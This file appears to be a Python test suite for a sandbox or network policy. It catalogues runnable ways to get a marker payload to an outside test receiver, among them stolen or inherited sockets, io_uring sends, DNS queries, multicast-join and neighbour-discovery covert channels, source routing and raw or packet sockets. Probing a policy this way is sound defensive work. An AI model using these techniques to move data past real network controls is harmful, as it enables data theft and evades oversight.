# Copyright (c) 2026 the exfil.guard authors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Ways to send: what counts is whether the mark arrived outside."""

import contextlib
import ctypes
import fcntl
import functools
import os
import socket
import struct
import threading
import time

from harness.receiver import DCCP, MPTCP, SCTP, UDPLITE, ping_request
from harness.testbed import OTHER_PORT, address_of

from techniques.registry import Absent, appears, arrives, technique
from techniques.steps import gone, hand_out, handed_out, own_namespaces, put, spawn
from techniques.syscalls import Compat, Ring, Vector, call, message, system

FAST_OPEN, FAST_OPEN_CONNECT = 0x20000000, 30
INET, INET6, STREAM, DGRAM = socket.AF_INET, socket.AF_INET6, socket.SOCK_STREAM, socket.SOCK_DGRAM


def sends(what, action="send", **more):
    more.setdefault("evidence", arrives)
    return technique("network", what, action, **more)


def new(family, kind, protocol=0):
    try:
        return socket.socket(family, kind, protocol)
    except OSError as error:
        if error.errno in (93, 94, 97):
            raise Absent(f"this kernel has no such protocol: {error}") from error
        raise


def addresses(t):
    return ((INET, t.outside4), (INET6, t.outside6), (INET6, "::ffff:" + t.outside4))


# ---- TCP -------------------------------------------------------------------------------------------------------------


def tcp(t, family, address, port=None, protocol=0):
    with new(family, STREAM, protocol) as one:
        one.settimeout(15)
        one.connect((address, port or t.port + (protocol if protocol == MPTCP else 0)))
        one.sendall(t.data)


@sends("TCP: connect", "connect")
def tcp_ipv4(t):
    tcp(t, INET, t.outside4)


@sends("TCP: connect", "connect")
def tcp_ipv6(t):
    tcp(t, INET6, t.outside6)


@sends("TCP: connect", "connect")
def tcp_mapped(t):
    tcp(t, INET6, "::ffff:" + t.outside4)


@sends("TCP: connect", "connect")
def tcp_loopback_proxy(t):
    tcp(t, INET, "127.0.0.1")


@sends("TCP: connect", "connect")
def tcp_loopback_by_nobody_s_address(t):
    tcp(t, INET, "0.0.0.0")


@sends("TCP: connect", "connect")
def tcp_loopback_ipv6_unspecified(t):
    tcp(t, INET6, "::")


@sends("TCP: connect", "connect")
def tcp_metadata_service(t):
    tcp(t, INET, t.metadata)


@sends("TCP: connect", "connect")
def tcp_bound_to_a_device(t):
    with new(INET, STREAM) as one:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo")
        one.connect((t.outside4, t.port))
        one.sendall(t.data)


@sends("TCP: connect", "connect")
def tcp_not_blocking(t):
    with new(INET, STREAM) as one:
        one.setblocking(False)
        one.connect_ex((t.outside4, t.port))
        time.sleep(0.1)
        one.sendall(t.data)


@sends("TCP: connect", "connect")
def tcp_by_a_program(t):
    reader, writer = os.pipe()
    os.write(writer, t.data)
    spawn(t, ["send", t.outside4, t.port, 0], {0: reader})


@sends("TCP: connect", "connect", who="network.service")
def tcp_of_a_unit(t):
    tcp(t, INET, t.outside4)


@sends("MPTCP: connect, Fast Open", "connect")
def mptcp(t):
    tcp(t, INET, t.outside4, protocol=MPTCP)


@sends("MPTCP: connect, Fast Open", "connect")
def mptcp_ipv6(t):
    tcp(t, INET6, t.outside6, protocol=MPTCP)


def fast_open(t, family, address, protocol=0):
    with new(family, STREAM, protocol) as one:
        one.sendto(t.data, FAST_OPEN, (address, t.port + (protocol if protocol == MPTCP else 0)))
        one.shutdown(socket.SHUT_WR)
        one.recv(1)


@sends("MPTCP: connect, Fast Open")
def mptcp_fast_open(t):
    try:
        fast_open(t, INET, t.outside4, MPTCP)
    except OSError as error:
        if error.errno in (32, 95):
            raise Absent("this kernel has no Fast Open for MPTCP") from error
        raise


@sends("TCP Fast Open")
def fast_open_ipv4(t):
    fast_open(t, INET, t.outside4)


@sends("TCP Fast Open")
def fast_open_ipv6(t):
    fast_open(t, INET6, t.outside6)


@sends("TCP Fast Open")
def fast_open_mapped(t):
    fast_open(t, INET6, "::ffff:" + t.outside4)


@sends("TCP Fast Open")
def fast_open_sendmsg(t):
    with new(INET, STREAM) as one:
        one.sendmsg([t.data], [], FAST_OPEN, (t.outside4, t.port))
        one.shutdown(socket.SHUT_WR)
        one.recv(1)


@sends("TCP Fast Open")
def fast_open_sendmmsg(t):
    with new(INET, STREAM) as one:
        send_many(one, (t.data, address_of(INET, t.outside4, t.port), None), flags=FAST_OPEN)
        one.shutdown(socket.SHUT_WR)
        one.recv(1)


@sends("TCP Fast Open", "connect")
def fast_open_connect(t):
    with new(INET, STREAM) as one:
        one.setsockopt(socket.SOL_TCP, FAST_OPEN_CONNECT, 1)
        one.connect((t.outside4, t.port))
        one.sendall(t.data)
        one.shutdown(socket.SHUT_WR)
        one.recv(1)


@sends("SCTP", "connect")
def sctp(t):
    tcp(t, INET, t.outside4, protocol=SCTP)


@sends("SCTP", "connect")
def sctp_connectx(t):
    with new(INET, STREAM, SCTP) as one:
        one.setsockopt(SCTP, 110, address_of(INET, t.outside4, t.port))
        one.sendall(t.data)


@sends("SCTP")
def sctp_many(t):
    with new(INET, socket.SOCK_SEQPACKET, SCTP) as one:
        one.sendto(t.data, (t.outside4, t.port))


@sends("DCCP", "connect")
def dccp(t):
    tcp(t, INET, t.outside4, protocol=DCCP)


def splice_from_pipe(one, data=b"x"):
    reader, writer = os.pipe()
    os.write(writer, data)
    os.splice(reader, one.fileno(), len(data))


def send_many(one, *messages, flags=0):
    """sendmmsg(2) of (data, raw address or b"", (level, type, data) of a control message or None). A message left unsent is
    an error: the kernel tells a refusal of the first message only."""
    headers, kept = b"", []
    for data, address, control in messages:
        header, more = message(data, address, control)
        headers += bytes(header) + bytes(8)
        kept.append(more)
    if call("sendmmsg", one.fileno(), ctypes.create_string_buffer(headers), len(messages), flags) != len(messages):
        raise OSError(1, "sendmmsg stopped")


# ---- connected before the policy -------------------------------------------------------------------------------------


def family_of(address):
    return INET6 if ":" in address else INET


def connection(address, port, kind=STREAM, protocol=0):
    one = new(family_of(address), kind, protocol)
    one.connect((address, port))
    return one


def listener(port=0, protocol=0, address="0.0.0.0", reuse=False):
    one = new(family_of(address), STREAM, protocol)
    one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if reuse:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    one.bind((address, port))
    one.listen(16)
    return one


def connected(t):
    one = connection(t.outside4, t.port)
    one.settimeout(15)
    return one


def connected_and_file(t):
    path = f"{t.open}/{t.mark}"
    put(path, t.data, os.O_RDWR | os.O_CREAT)
    return connected(t), os.open(path, os.O_RDONLY)


@sends("TCP connected before: send, sendmsg", held=connected)
def held_send(t, one):
    one.send(t.data)


@sends("TCP connected before: send, sendmsg", held=connected)
def held_sendmsg(t, one):
    one.sendmsg([t.data])


@sends("TCP connected before: send, sendmsg", held=connected)
def held_out_of_band(t, one):
    one.send(t.data + b"!", socket.MSG_OOB)


@sends("TCP connected before: write, writev", held=connected)
def held_socket_write(t, one):
    os.write(one.fileno(), t.data)


@sends("TCP connected before: write, writev", held=connected)
def held_socket_writev(t, one):
    os.writev(one.fileno(), [t.data[:5], t.data[5:]])


@sends("TCP connected before: sendfile", held=connected_and_file)
def held_socket_sendfile(t, held):
    os.sendfile(held[0].fileno(), held[1], 0, 4096)


@sends("TCP connected before: splice", held=connected)
def held_socket_splice(t, one):
    splice_from_pipe(one, t.data)


@sends("TCP connected before: splice", held=connected)
def held_socket_vmsplice(t, one):
    reader, writer = os.pipe()
    buffer = ctypes.create_string_buffer(t.data, len(t.data))
    vector = Vector(ctypes.addressof(buffer), len(t.data))
    system("vmsplice", writer, ctypes.byref(vector), 1, 0)
    os.splice(reader, one.fileno(), len(t.data))


@sends("TCP connected before: io_uring", held=lambda t: (Ring(), connected(t)))
def held_uring_send(t, held):
    held[0].do(Ring.SEND, held[1].fileno(), t.data, len(t.data))


@sends("TCP connected before: io_uring", held=lambda t: (Ring(), connected(t)))
def held_uring_socket_write(t, held):
    held[0].do(Ring.WRITE, held[1].fileno(), t.data, len(t.data), (1 << 64) - 1)


@sends("TCP connected before: io_uring", held=lambda t: (Ring(Ring.SQPOLL), connected(t)))
def held_uring_polling_send(t, held):
    held[0].do(Ring.SEND, held[1].fileno(), t.data, len(t.data))


@sends("TCP connected before: io_uring", held=lambda t: (Ring(), connected(t)))
def held_uring_zero_copy(t, held):
    try:
        held[0].do(Ring.SEND_ZC, held[1].fileno(), t.data, len(t.data))
    except OSError as error:
        if error.errno == 22:
            raise Absent("no such request") from error
        raise


@sends("TCP connected before: handed to a program", held=connected)
def held_inherited_socket(t, one):
    reader, writer = os.pipe()
    os.write(writer, t.data)
    spawn(t, ["cat", 0], {0: reader, 1: one.fileno()})


@sends("TCP connected before: reopened by /proc/self/fd", held=connected)
def held_socket_sent_by_a_child(t, one):
    child = os.fork()
    if child == 0:
        with contextlib.suppress(OSError):
            one.send(t.data)
        os._exit(0)
    os.waitpid(child, 0)


def _connected_for_others(t):
    hand_out(t, "dialler", lambda: connected(t).detach())


@sends("a connection received over a unix socket", ready=_connected_for_others)
def received_connection(t):
    os.write(handed_out(t, "dialler"), t.data)


def _connection_elsewhere(t):
    def hold():
        one = connected(t)
        os.dup2(one.fileno(), 199)
        while True:
            time.sleep(60)

    t.kept["holder"] = t.helper(hold)
    appears(f"/proc/{t.kept['holder']}/fd/199")


@sends("a connection taken by pidfd_getfd", who="network.service", ready=_connection_elsewhere)
def taken_connection(t):
    os.write(system("pidfd_getfd", system("pidfd_open", t.kept["holder"], 0), 199, 0), t.data)


# ---- UDP -------------------------------------------------------------------------------------------------------------


@sends("UDP: connect, then send", "connect")
def udp_connected(t):
    with new(INET, DGRAM) as one:
        one.connect((t.outside4, t.port))
        one.send(t.data)


@sends("UDP: connect, then send", "connect")
def udp_connected_ipv6(t):
    with new(INET6, DGRAM) as one:
        one.connect((t.outside6, t.port))
        one.send(t.data)


@sends("UDP: connect, then send", "connect")
def udp_connected_mapped(t):
    with new(INET6, DGRAM) as one:
        one.connect(("::ffff:" + t.outside4, t.port))
        one.send(t.data)


def _dgram(t):
    return connection(t.outside4, t.port, DGRAM)


@sends("UDP connected before: send, write", held=_dgram)
def held_udp_send(t, one):
    one.send(t.data)


@sends("UDP connected before: send, write", held=_dgram)
def held_udp_write(t, one):
    os.write(one.fileno(), t.data)


@sends("UDP connected before: splice", held=_dgram)
def held_udp_splice(t, one):
    splice_from_pipe(one, t.data)


@sends("UDP: sendto")
def sendto_ipv4(t):
    with new(INET, DGRAM) as one:
        one.sendto(t.data, (t.outside4, t.port))


@sends("UDP: sendto")
def sendto_ipv6(t):
    with new(INET6, DGRAM) as one:
        one.sendto(t.data, (t.outside6, t.port))


@sends("UDP: sendto")
def sendto_mapped(t):
    with new(INET6, DGRAM) as one:
        one.sendto(t.data, ("::ffff:" + t.outside4, t.port))


@sends("UDP: sendto while connected elsewhere")
def sendto_elsewhere(t):
    with new(INET, DGRAM) as one:
        one.connect((t.vault4, t.port))
        one.sendto(t.data, (t.outside4, t.port))


@sends("UDP: sendto with an address of no or another family")
def sendto_no_family(t):
    with new(INET, DGRAM) as one:
        call("sendto", one.fileno(), t.data, len(t.data), 0, address_of(0, t.outside4, t.port), 16)


@sends("UDP: sendto with an address of no or another family")
def sendto_ipv4_address_on_ipv6(t):
    with new(INET6, DGRAM) as one:
        call("sendto", one.fileno(), t.data, len(t.data), 0, address_of(2, t.outside4, t.port), 16)


@sends("UDP: connect again, AF_UNSPEC between", "connect")
def reconnected(t):
    with new(INET, DGRAM) as one:
        one.connect((t.vault4, t.port))
        call("connect", one.fileno(), address_of(0, t.vault4, t.port), 16)
        one.connect((t.outside4, t.port))
        one.send(t.data)


@sends("UDP: sendmsg, sendmmsg")
def sendmsg(t):
    with new(INET, DGRAM) as one:
        one.sendmsg([t.data], [], 0, (t.outside4, t.port))


@sends("UDP: sendmsg, sendmmsg")
def sendmmsg(t):
    with new(INET, DGRAM) as one:
        send_many(one, *((t.data, address_of(INET, address, t.port), None) for address in (t.vault4, t.outside4)))


@sends("UDP: io_uring", "send")
def uring_sendmsg(t):
    with new(INET, DGRAM) as one:
        header, _keep = message(t.data, address_of(INET, t.outside4, t.port))
        Ring().do(Ring.SENDMSG, one.fileno(), ctypes.addressof(header), 1)


@sends("UDP: io_uring", "send")
def uring_send_with_address(t):
    with new(INET, DGRAM) as one:
        name = ctypes.create_string_buffer(address_of(INET, t.outside4, t.port))
        try:
            Ring().do(Ring.SEND_ZC, one.fileno(), t.data, len(t.data), ctypes.addressof(name), more=16 << 32)
        except OSError as error:
            if error.errno == 22:
                raise Absent("no such request") from error
            raise


@sends("TCP: io_uring connect", "connect")
def uring_connect(t):
    with new(INET, STREAM) as one:
        ring = Ring()
        ring.do(Ring.CONNECT, one.fileno(), address_of(INET, t.outside4, t.port), 0, 16)
        ring.do(Ring.SEND, one.fileno(), t.data, len(t.data))


@sends("TCP: io_uring connect", "connect")
def uring_socket_and_connect(t):
    ring = Ring(Ring.SQPOLL)
    try:
        fd = ring.do(Ring.SOCKET, INET, 0, 0, STREAM)
    except OSError as error:
        raise Absent("no such request") from error
    ring.do(Ring.CONNECT, fd, address_of(INET, t.outside4, t.port), 0, 16)
    ring.do(Ring.SEND, fd, t.data, len(t.data))


@sends("UDP-Lite")
def udplite(t):
    with new(INET, DGRAM, UDPLITE) as one:
        one.sendto(t.data, (t.outside4, t.port))


@sends("DNS", "send")
def dns_query(t):
    name = t.mark.encode()
    query = (
        struct.pack("!6H", 1, 0x100, 1, 0, 0, 0) + bytes([len(name)]) + name + b"\7example\0" + struct.pack("!2H", 1, 1)
    )
    with new(INET, DGRAM) as one:
        one.sendto(query, (t.outside4, 53))


@sends("DNS", "connect")
def dns_over_tcp(t):
    tcp(t, INET, t.outside4, 53)


@sends("multicast, broadcast")
def multicast(t):
    with new(INET, DGRAM) as one:
        one.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("127.0.0.1"))
        one.sendto(t.data, ("239.1.1.1", t.port))


@sends("multicast, broadcast")
def multicast_ipv6(t):
    with new(INET6, DGRAM) as one:
        one.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, struct.pack("=I", socket.if_nametoindex("lo")))
        one.sendto(t.data, ("ff02::1", t.port, 0, socket.if_nametoindex("lo")))


# ---- datagrams that were begun before: what follows is appended, whatever its address -------------------------------

MORE, UDP_CORK = 0x8000, 1


def begun(t):
    one = new(INET, DGRAM)
    one.sendto(b"begun ", MORE, (t.outside4, t.port))
    return one


def begun_ipv6(t):
    one = new(INET6, DGRAM)
    one.sendto(b"begun ", MORE, (t.outside6, t.port))
    return one


def begun_corked(t):
    one = new(INET, DGRAM)
    one.setsockopt(17, UDP_CORK, 1)
    one.sendto(b"begun ", (t.outside4, t.port))
    return one


@sends("UDP: data appended to a datagram begun before", held=begun)
def append(t, one):
    one.sendto(t.data, (t.vault4, t.port))


@sends("UDP: data appended to a datagram begun before", held=begun_ipv6)
def append_ipv6(t, one):
    one.sendto(t.data, (t.vault6, t.port))


@sends("UDP: data appended to a datagram begun before", held=begun_corked)
def append_corked(t, one):
    one.sendto(t.data, (t.vault4, t.port))
    one.setsockopt(17, UDP_CORK, 0)


FLOW_LABEL = 0x12345


def flow_label_leased(t):
    """A flow label that comes with a routing header."""
    one = new(INET6, DGRAM)
    header = _mobility(t)
    control = struct.pack("=Qii", 16 + len(header), 41, 57) + header
    address = socket.inet_pton(INET6, t.vault6)
    request = address + socket.htonl(FLOW_LABEL).to_bytes(4, "little") + struct.pack("=BBHHHI", 0, 255, 1, 0, 0, 0)
    try:
        one.setsockopt(41, 32, request + control)  # IPV6_FLOWLABEL_MGR
    except OSError as error:
        raise Absent(f"no such routing header: {error}") from error
    one.setsockopt(41, 33, 1)  # IPV6_FLOWINFO_SEND
    return one


@sends("source routing by a flow label leased before", held=flow_label_leased)
def flow_label(t, one):
    one.sendto(t.data, (t.vault6, t.port, FLOW_LABEL, 0))


# ---- joins: the kernel announces groups and sources to the routers --------------------------------------------------

# what a report carries is put together by the receiver: see Receiver.announced
GROUP4, GROUP6 = b"\xef", b"\xff\x1e\x45\x47"
ADD_MEMBERSHIP, BLOCK_SOURCE, ADD_SOURCE, FILTER = 35, 38, 39, 41  # of IPPROTO_IP
JOIN6, JOIN, BLOCK, JOIN_SOURCE, GROUP_FILTER = 20, 42, 43, 46, 48
INCLUDE = 1
LO4 = socket.inet_aton("127.0.0.1")


def lo():
    return socket.if_nametoindex("lo")


def storage(family, packed):
    """A struct sockaddr_storage."""
    head = struct.pack("=HH", family, 0)
    return (head + (packed if family == INET else bytes(4) + packed)).ljust(128, b"\0")


def groups(family, data):
    """Groups whose addresses carry the data, in order."""
    head, size = (GROUP4, 2) if family == INET else (GROUP6, 11)
    return [
        head + bytes([n]) + data[at : at + size].ljust(size, b"\0") for n, at in enumerate(range(0, len(data), size))
    ]


def sources(family, data):
    size = 4 if family == INET else 16
    return [data[at : at + size].ljust(size, b"\0") for at in range(0, len(data), size)]


def group_request(family, group, *more):
    return struct.pack("=II", lo(), 0) + b"".join(storage(family, each) for each in (group, *more))


def settle(t):
    if t.phase != "check":
        time.sleep(1.2)  # a report goes out a moment after the join, and its socket must live as long


def join(t, family, level, option, values, setting=None):
    with contextlib.ExitStack() as open_:
        for value in values:
            one = open_.enter_context(new(family, DGRAM))
            (setting or one.setsockopt)(*([one] if setting else []), level, option, value)
        settle(t)


@sends("multicast joins: a group")
def join_group_ipv4(t):
    requests = (group + LO4 + struct.pack("=I", lo()) for group in groups(INET, t.data))
    join(t, INET, 0, ADD_MEMBERSHIP, requests)


def join_data(t, data):
    join(t, INET6, 41, JOIN6, (group + struct.pack("=I", lo()) for group in groups(INET6, data)))


@sends("multicast joins: a group")
def join_group_ipv6(t):
    join_data(t, t.data)


@sends("multicast joins: a group")
def join_group_request(t):
    join(t, INET, 0, JOIN, (group_request(INET, group) for group in groups(INET, t.data)))


@sends("multicast joins: a group")
def join_group_request_ipv6(t):
    join(t, INET6, 41, JOIN, (group_request(INET6, group) for group in groups(INET6, t.data)))


@sends("multicast joins: a group")
def join_ipv4_group_by_ipv6(t):
    requests = (group + LO4 + struct.pack("=I", lo()) for group in groups(INET, t.data))
    join(t, INET6, 0, ADD_MEMBERSHIP, requests)


@sends("multicast joins: a group", who="network.service")
def join_group_of_a_unit(t):
    join(t, INET6, 41, JOIN6, (group + struct.pack("=I", lo()) for group in groups(INET6, t.data)))


@sends("multicast joins: by io_uring")
def join_group_by_uring(t):
    def setting(one, level, option, value):
        kept = ctypes.create_string_buffer(value, len(value))
        try:
            Ring().set_option(one.fileno(), level, option, ctypes.addressof(kept), len(value))
        except OSError as error:
            if error.errno in (22, 95):
                raise Absent("no such request") from error
            raise

    join(t, INET6, 41, JOIN6, (group + struct.pack("=I", lo()) for group in groups(INET6, t.data)), setting)


@sends("multicast joins: by a 32-bit system call")
def join_group_by_32_bits(t):
    def setting(one, level, option, value):
        Compat().call(366, one.fileno(), level, option, value, len(value))  # setsockopt

    join(t, INET6, 41, JOIN6, (group + struct.pack("=I", lo()) for group in groups(INET6, t.data)), setting)


@sends("multicast joins: sources")
def join_source_ipv4(t):
    with new(INET, DGRAM) as one:
        for source in sources(INET, t.data):
            one.setsockopt(0, ADD_SOURCE, GROUP4 + b"\1\1\1" + LO4 + source)
        settle(t)


@sends("multicast joins: sources")
def join_source_request_ipv4(t):
    with new(INET, DGRAM) as one:
        for source in sources(INET, t.data):
            one.setsockopt(0, JOIN_SOURCE, group_request(INET, GROUP4 + b"\1\1\2", source))
        settle(t)


@sends("multicast joins: sources")
def join_source_request_ipv6(t):
    with new(INET6, DGRAM) as one:
        for source in sources(INET6, t.data):
            one.setsockopt(41, JOIN_SOURCE, group_request(INET6, GROUP6 + bytes(12), source))
        settle(t)


def joined(family):
    """Joined before the policy."""
    one = new(family, DGRAM)
    if family == INET:
        one.setsockopt(0, ADD_MEMBERSHIP, GROUP4 + b"\1\1\3" + LO4)
    else:
        one.setsockopt(41, JOIN6, GROUP6 + bytes(11) + b"\3" + struct.pack("=I", lo()))
    return one


@sends("multicast joins: sources of a group joined before", held=lambda t: joined(INET))
def block_source_ipv4(t, one):
    for source in sources(INET, t.data):
        one.setsockopt(0, BLOCK_SOURCE, GROUP4 + b"\1\1\3" + LO4 + source)
    settle(t)


@sends("multicast joins: sources of a group joined before", held=lambda t: joined(INET6))
def block_source_ipv6(t, one):
    for source in sources(INET6, t.data):
        one.setsockopt(41, BLOCK, group_request(INET6, GROUP6 + bytes(11) + b"\3", source))
    settle(t)


@sends("multicast joins: sources of a group joined before", held=lambda t: joined(INET))
def source_filter_ipv4(t, one):
    listed = sources(INET, t.data)
    one.setsockopt(0, FILTER, GROUP4 + b"\1\1\3" + LO4 + struct.pack("=II", INCLUDE, len(listed)) + b"".join(listed))
    settle(t)


@sends("multicast joins: sources of a group joined before", held=lambda t: joined(INET6))
def source_filter_ipv6(t, one):
    listed = sources(INET6, t.data)
    head = group_request(INET6, GROUP6 + bytes(11) + b"\3") + struct.pack("=II", INCLUDE, len(listed))
    one.setsockopt(41, GROUP_FILTER, head + b"".join(storage(INET6, each) for each in listed))
    settle(t)


# ---- the kernel asks who has an address -------------------------------------------------------------------------------


def wire(t):
    """A network of our own, whose frames the receiver sees: IPv4 10.92.0.0/16, IPv6 fd92::/64."""
    if not os.path.exists("/dev/net/tun"):
        raise Absent("no tap device")
    t.kept["wire"] = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(t.kept["wire"], 0x400454CA, struct.pack("16sH22x", b"wire0", 0x1002))  # TUNSETIFF, a tap
    for arguments in ("link set wire0 up", "addr add 10.92.255.1/16 dev wire0", "-6 route add fd92::/64 dev wire0"):
        os.system("ip " + arguments)
    time.sleep(0.2)


def cut_wire(t):
    if "wire" in t.kept:
        os.close(t.kept.pop("wire"))


def ask_for(family, addresses, port):
    """Tries everything that could make the kernel ask for the addresses; raises the last error."""
    failed = None
    for address in addresses:
        at = (address, port)
        with new(family, DGRAM) as datagrams, new(family, STREAM) as stream:
            stream.setblocking(False)
            for way in (
                functools.partial(datagrams.sendto, b"", at),
                functools.partial(datagrams.sendto, b"", socket.MSG_DONTROUTE, at),
                functools.partial(datagrams.connect, at),
                functools.partial(datagrams.send, b""),
                functools.partial(stream.connect, at),
            ):
                try:
                    way()
                except BlockingIOError:
                    pass
                except OSError as error:
                    failed = error
    time.sleep(0.5)
    if failed:
        raise failed


@sends("neighbour discovery for an address of the task's", ready=wire, last=cut_wire)
def neighbour_ipv4(t):
    ask_for(INET, [f"10.92.{n}.{byte}" for n, byte in enumerate(t.data)], t.port)


@sends("neighbour discovery for an address of the task's", ready=wire, last=cut_wire)
def neighbour_ipv6(t):
    parts = [t.data[at : at + 7].ljust(7, b"\0") for at in range(0, len(t.data), 7)]
    packed = [b"\xfd\x92" + bytes(6) + bytes([n]) + part for n, part in enumerate(parts, 1)]
    ask_for(INET6, [socket.inet_ntop(INET6, each) for each in packed], t.port)


@sends("ICMP echo, without a raw socket")
def ping(t):
    with new(INET, DGRAM, socket.IPPROTO_ICMP) as one:
        one.sendto(ping_request(t.data), (t.outside4, 0))


@sends("ICMP echo, without a raw socket")
def ping_ipv6(t):
    with new(INET6, DGRAM, socket.IPPROTO_ICMPV6) as one:
        request = struct.pack("!BBHHH", 128, 0, 0, 7, 1) + t.data
        one.sendto(request, (t.outside6, 0))


# ---- source routing: addressed to the vault, sent elsewhere ----------------------------------------------------------


def _route(t):
    """A strict source route by way of the outside."""
    return bytes([137, 7, 4]) + socket.inet_aton(t.outside4) + b"\0"


@sends("source routing", who="network.service")
def source_route_option(t):
    with new(INET, DGRAM) as one:
        one.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, _route(t))
        one.sendto(t.data, (t.vault4, t.port))


@sends("source routing", "connect", who="network.service")
def source_route_connected(t):
    with new(INET, DGRAM) as one:
        one.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, _route(t))
        one.connect((t.vault4, t.port))
        one.send(t.data)


@sends("source routing", who="network.service")
def source_route_after_connect(t):
    with new(INET, DGRAM) as one:
        one.connect((t.vault4, t.port))
        one.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, _route(t))
        one.send(t.data)


@sends("source routing", who="network.service")
def source_route_message(t):
    with new(INET, DGRAM) as one:
        one.sendmsg([t.data], [(socket.IPPROTO_IP, 7, _route(t))], 0, (t.vault4, t.port))  # IP_RETOPTS


def _segments(t):
    return bytes([0, 4, 4, 1, 1, 0, 0, 0]) + socket.inet_pton(INET6, t.vault6) + socket.inet_pton(INET6, t.outside6)


@sends("source routing", who="network.service")
def segment_routing_option(t):
    with new(INET6, DGRAM) as one:
        one.setsockopt(socket.IPPROTO_IPV6, 57, _segments(t))
        one.sendto(t.data, (t.vault6, t.port))


def _mobility(t):
    """A routing header of type 2: the packet goes to its address, the one of the call goes into the header."""
    return bytes([0, 2, 2, 1, 0, 0, 0, 0]) + socket.inet_pton(INET6, t.outside6)


@sends("source routing", who="network.service")
def routing_header_option(t):
    with new(INET6, DGRAM) as one:
        try:
            one.setsockopt(socket.IPPROTO_IPV6, 57, _mobility(t))
        except OSError as error:
            if error.errno == 1:
                raise
            raise Absent(f"no such routing header: {error}") from error
        one.sendto(t.data, (t.vault6, t.port))


@sends("source routing", who="network.service")
def routing_header_message(t):
    with new(INET6, DGRAM) as one:
        try:
            one.sendmsg([t.data], [(socket.IPPROTO_IPV6, 57, _mobility(t))], 0, (t.vault6, t.port))
        except OSError as error:
            if error.errno == 22:
                raise Absent(f"no such routing header: {error}") from error
            raise


# ---- raw and packet sockets, other families --------------------------------------------------------------------------


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ip_packet(t):
    body = struct.pack("!4H", 1234, t.port, 8 + len(t.data), 0) + t.data
    head = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0,
        20 + len(body),
        1,
        0,
        64,
        17,
        0,
        socket.inet_aton("127.0.0.1"),
        socket.inet_aton(t.outside4),
    )
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


@sends("raw socket", "raw-socket", who="sockets.service")
def raw_header_included(t):
    with new(INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as one:
        one.sendto(ip_packet(t), (t.outside4, 0))


@sends("raw socket", "raw-socket", who="sockets.service")
def raw_icmp(t):
    with new(INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as one:
        one.sendto(ping_request(t.data), (t.outside4, 0))


@sends("raw socket", "raw-socket", who="sockets.service")
def raw_own_protocol(t):
    with new(INET, socket.SOCK_RAW, 253) as one:
        one.sendto(t.data, (t.outside4, 0))


@sends("raw socket", "raw-socket", who="sockets.service")
def raw_ipv6(t):
    with new(INET6, socket.SOCK_RAW, 253) as one:
        one.sendto(t.data, (t.outside6, 0))


@sends("raw socket: what it sends", "send", who="network.service")
def raw_to_the_outside(t):
    with new(INET, socket.SOCK_RAW, 253) as one:
        one.sendto(t.data, (t.outside4, 0))


@sends("raw socket: what it sends", "send", who="network.service")
def raw_header_for_elsewhere(t):
    """The address of the call is the vault's; that of the packet is not."""
    with new(INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as one:
        one.sendto(ip_packet(t), (t.vault4, 0))


@sends("packet socket", "packet-socket", who="sockets.service")
def packet_raw(t):
    with new(socket.AF_PACKET, socket.SOCK_RAW) as one:
        one.bind(("lo", 0x0800))
        one.send(bytes(12) + b"\x08\x00" + ip_packet(t))


@sends("packet socket", "packet-socket", who="sockets.service")
def packet_cooked(t):
    with new(socket.AF_PACKET, DGRAM) as one:
        one.sendto(ip_packet(t), ("lo", 0x0800, 0, 0, bytes(6)))


@sends("packet socket", "packet-socket", who="sockets.service")
def packet_own_protocol(t):
    with new(socket.AF_PACKET, DGRAM) as one:
        one.sendto(t.data, ("lo", 0x88B5, 0, 0, bytes(6)))


@sends("packet socket", "packet-socket", who="sockets.service")
def packet_in_a_network_namespace(t):
    """Its own namespace has a wire, too; here only the socket is what must not come about."""
    own_namespaces(0x40000000)
    new(socket.AF_PACKET, socket.SOCK_RAW).close()
    put(f"{t.arrived_folder}/{t.mark}", b"", os.O_WRONLY | os.O_CREAT)


def _family(name, number, kind=DGRAM):
    def function(t):
        new(number, kind).close()
        return True

    function.__name__ = name.replace("-", "_") + "_family"
    technique("network", f"a socket of the family {name.rsplit('-', 1)[0]}", name, who="sockets.service")(function)


for _name, _number, _kind in (
    ("netlink-socket", 16, socket.SOCK_RAW),
    ("xdp-socket", 44, socket.SOCK_RAW),
    ("alg-socket", 38, socket.SOCK_SEQPACKET),
    ("vsock-socket", 40, STREAM),
    ("bluetooth-socket", 31, STREAM),
    ("can-socket", 29, socket.SOCK_RAW),
    ("tipc-socket", 30, DGRAM),
    ("key-socket", 15, socket.SOCK_RAW),
    ("rds-socket", 21, socket.SOCK_SEQPACKET),
    ("smc-socket", 43, STREAM),
):
    _family(_name, _number, _kind)


@technique(
    "network",
    "change the routes (netlink)",
    "netlink-socket",
    who="sockets.service",
    last=lambda t: os.system("ip route del 10.92.0.1 2>/dev/null") and None,
)
def netlink_route(t):
    with new(socket.AF_NETLINK, socket.SOCK_RAW) as one:
        one.bind((0, 0))
        body = struct.pack("=8BI", 2, 32, 0, 0, 254, 3, 253, 1, 0)
        body += struct.pack("=HH4s", 8, 1, bytes([10, 92, 0, 1])) + struct.pack(
            "=HHI", 8, 4, socket.if_nametoindex("lo")
        )
        one.send(struct.pack("=IHHII", 16 + len(body), 24, 0x405, 1, 0) + body)
        code = struct.unpack_from("=i", one.recv(4096), 16)[0]
        if code and code != -17:
            raise OSError(-code, os.strerror(-code))
        return True


